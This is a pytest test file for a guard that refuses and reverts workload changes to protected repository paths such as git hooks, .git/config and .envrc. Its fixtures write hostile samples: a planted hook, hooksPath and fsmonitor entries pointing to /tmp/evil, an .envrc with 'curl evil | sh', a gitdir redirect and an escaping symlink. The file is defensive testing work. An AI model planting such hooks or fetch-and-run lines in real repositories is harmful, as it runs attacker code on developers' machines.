"""run.guard on real directories: every way a workload could leave a protected path
changed is refused and put back (never through a symlink it made), watched paths are
listed and kept, and ordinary work in the repository is not touched."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from kooi.run.guard import Guard, GuardError, scan


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    (tmp_path / "pom.xml").write_text("<project/>\n")
    (tmp_path / "src.txt").write_text("code\n")
    return tmp_path


def guarded(repo: Path, *unprotected: str) -> Guard:
    g = Guard(repo, unprotected)
    g.snapshot()
    return g


def test_ordinary_work_is_not_a_refusal(repo):
    g = guarded(repo)
    env = {**os.environ, "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a",
           "GIT_COMMITTER_EMAIL": "a@b"}
    (repo / "src.txt").write_text("fixed\n")
    subprocess.run(["git", "-C", str(repo), "add", "-A"], check=True)
    subprocess.run(["git", "-C", str(repo), "commit", "-qm", "fix"], check=True, env=env)
    rec = g.check()
    assert rec["refused"] == [] and rec["restored"] and rec["watched_changed"] == []


def test_hooks_config_and_host_side_files_are_put_back(repo):
    config = (repo / ".git/config").read_bytes()
    sample = sorted(p.name for p in (repo / ".git/hooks").iterdir())
    g = guarded(repo)
    (repo / ".git/hooks/post-checkout").write_text("#!/bin/sh\ntouch /tmp/pwned\n")
    (repo / ".git/hooks/post-checkout").chmod(0o755)
    with open(repo / ".git/config", "a") as f:
        f.write("[core]\n\thooksPath = /tmp/evil\n\tfsmonitor = /tmp/evil.sh\n")
    (repo / ".envrc").write_text("curl evil | sh\n")
    (repo / ".vscode").mkdir()
    (repo / ".vscode/tasks.json").write_text("{}\n")
    (repo / "pom.xml").write_text("<project><build/></project>\n")
    rec = g.check()
    refused = {r["path"]: r["change"] for r in rec["refused"]}
    assert refused == {".git/hooks/post-checkout": "created", ".git/config": "modified", ".envrc": "created",
                       ".vscode/tasks.json": "created"}, refused
    assert rec["restored"]
    assert (repo / ".git/config").read_bytes() == config
    assert sorted(p.name for p in (repo / ".git/hooks").iterdir()) == sample
    assert not (repo / ".envrc").exists() and not (repo / ".vscode/tasks.json").exists()
    assert rec["watched_changed"] == [{"path": "pom.xml", "change": "modified"}]
    assert (repo / "pom.xml").read_text() == "<project><build/></project>\n"  # watched: kept


def test_renaming_the_repository_away_or_a_symlink_is_undone(repo, tmp_path_factory):
    outside = tmp_path_factory.mktemp("outside")
    (outside / "victim").write_text("keep me\n")
    config = (repo / ".git/config").read_bytes()
    g = guarded(repo)
    # A fresh .git with a hook, the real one moved aside; .git/info a symlink out.
    (repo / ".git").rename(repo / ".git-old")
    (repo / ".git").mkdir()
    (repo / ".git/hooks").mkdir()
    (repo / ".git/hooks/pre-commit").write_text("#!/bin/sh\nevil\n")
    os.symlink(outside, repo / ".git/info")
    rec = g.check()
    paths = {r["path"] for r in rec["refused"]}
    assert {".git/hooks/pre-commit", ".git/config", ".git/info"} <= paths, rec["refused"]
    assert rec["restored"], rec["restore_failed"]
    assert (repo / ".git/config").read_bytes() == config
    assert not (repo / ".git/hooks/pre-commit").exists()
    assert (repo / ".git/info").is_dir() and not (repo / ".git/info").is_symlink()
    assert (outside / "victim").read_text() == "keep me\n"  # never followed


def test_git_turned_into_a_gitdir_file_is_undone(repo):
    g = guarded(repo)
    shutil.rmtree(repo / ".git")
    (repo / ".git").write_text("gitdir: /tmp/evil-repo\n")
    rec = g.check()
    assert {"path": ".git", "change": "replaced (dir -> file)"} in rec["refused"]
    assert (repo / ".git").is_dir() and (repo / ".git/config").is_file()


def test_a_workflow_can_unprotect_a_path(repo):
    g = guarded(repo, ".envrc")
    (repo / ".envrc").write_text("export A=1\n")
    rec = g.check()
    assert rec["refused"] == [] and (repo / ".envrc").exists() and ".envrc" not in rec["protected"]


def test_read_only_mounts_cover_the_existing_protected_paths(repo):
    g = guarded(repo)
    assert {".git/hooks", ".git/config", ".git/info"} <= set(g.read_only())
    assert ".git" not in g.read_only() and ".envrc" not in g.read_only()


def test_huge_protected_trees_are_refused_up_front(repo, monkeypatch):
    monkeypatch.setattr("kooi.run.guard.MAX_ENTRIES", 5)
    for i in range(10):
        (repo / ".git/hooks" / f"h{i}").write_text("x")
    with pytest.raises(GuardError, match="unprotected_paths"):
        scan(repo, (".git/hooks",))
